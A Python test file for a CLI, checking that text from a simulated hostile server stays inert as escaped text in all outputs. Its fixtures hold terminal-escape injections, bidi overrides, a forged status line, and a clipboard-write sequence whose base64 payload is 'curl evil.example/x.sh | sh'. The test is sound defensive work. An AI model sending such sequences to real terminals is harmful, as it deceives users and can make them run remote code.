"""Every CLI artifact is inert: what a server sends is kept as visible escapes, in the table, --json, both
bundles and --curl (an org name the server made up goes into the bill-to request)."""

from __future__ import annotations

import json
import re

from hhelpers import PLANTED, RAW_CONTROL, every_artifact
from hostile_server import USER, json_answer, respond

ORG = "acme\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07\u202e\u2066\r\nFAKE ▶ Everything works"


def test_server_text_in_every_field_stays_inert_in_every_cli_artifact(hostile, tmp_path):
    user = {**USER, "name": "ada\u202e\x1b[8m", "orgs": [{"name": ORG}],
            "auth": {"accessToken": {"displayName": "lap\u2028top\x00", "role": "write"}}}
    server = hostile({
        "whoami": lambda r: json_answer(user),
        "catalog": lambda r: respond(200, "OK", [("content-type", "application/json")],
                                     '{"data": [{"id": "Qwen/Qwen3.5-9B", "providers": [{"provider": '
                                     '"tog\u202eether\x1b[2J", "status": "live"}]}]}'.encode()),
        "chat": lambda r: respond(402, "Payment Required \x9b2J".encode("latin-1"),
                                  [("content-type", "application/json"), ("x-error-message", b"\xe2\x80\xae\x9b")],
                                  json.dumps({"error": "raw \u202e and \\u escaped"}, ensure_ascii=False).encode()),
    })
    artifacts = every_artifact(server.url, PLANTED, tmp_path, curl=("bill-to", "as-configured"))
    artifacts.assert_calm()
    artifacts.assert_no_leak(PLANTED)
    for name, text in artifacts.texts.items():
        assert not re.search(RAW_CONTROL, text), f"{name}: a raw control character"
        assert not any(line.startswith("FAKE") for line in text.splitlines()), f"{name}: a fake line"
    curl = artifacts.texts["curl bill-to stdout"]
    assert "X-HF-Bill-To: acme\\x1b]52;c;" in curl and "\\u202e" in curl
    document = artifacts.document
    assert document["account"]["orgs"][0].startswith("acme\\x1b]52;c;") and "\\r\\nFAKE" in document["account"]["orgs"][0]
    bundle = json.loads(artifacts.texts["bundle.json"])
    assert "\\u202e" in json.dumps(bundle["account"], ensure_ascii=False)
